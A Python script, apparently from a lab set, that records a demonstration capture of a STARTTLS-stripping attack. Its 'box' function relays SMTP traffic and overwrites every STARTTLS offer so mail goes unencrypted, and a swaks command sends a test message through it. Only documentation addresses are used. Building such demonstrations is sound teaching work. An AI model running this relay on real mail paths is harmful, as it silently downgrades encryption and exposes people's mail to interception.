#!/usr/bin/env python3
"""Records starttls-stripped.pcapng: something between blacks out the offer of STARTTLS.

See README.md.
"""

import socket
import threading

from stage import TLS, TLS_SERVICE, identify, record, run

SERVER = "192.0.2.26"  # where Postfix really is; the box answers at the address everybody knows
MAIL = r"""
swaks --server 192.0.2.25 --helo client.example.net --tls-optional
      --from carla@example.net --to anna@example.com
      --header "Subject: A secret" --body "The key is under the third flowerpot."
"""


def box() -> None:
    """Passes everything on, but for a word that it writes over, letter by letter."""
    with socket.create_server(("192.0.2.25", 25)) as listening:
        print("ready", flush=True)  # noqa: T201 (to the stage)
        while True:
            client, _ = listening.accept()
            server = socket.create_connection((SERVER, 25))
            threading.Thread(target=pump, args=(client, server), daemon=True).start()
            threading.Thread(target=pump, args=(server, client), daemon=True).start()


def pump(source: socket.socket, target: socket.socket) -> None:
    while octets := source.recv(65536):
        target.sendall(octets.replace(b"STARTTLS", b"XXXXXXXX"))
    target.shutdown(socket.SHUT_WR)


def send() -> None:
    identify()
    run(MAIL)


if __name__ == "__main__":
    record(
        send,
        config=TLS + f"inet_interfaces = {SERVER}\n",
        services=TLS_SERVICE,
        scenery=f"ip -n mx address add {SERVER}/24 dev eth0\n",
        parts=[box],
        needs=["openssl"],
    )
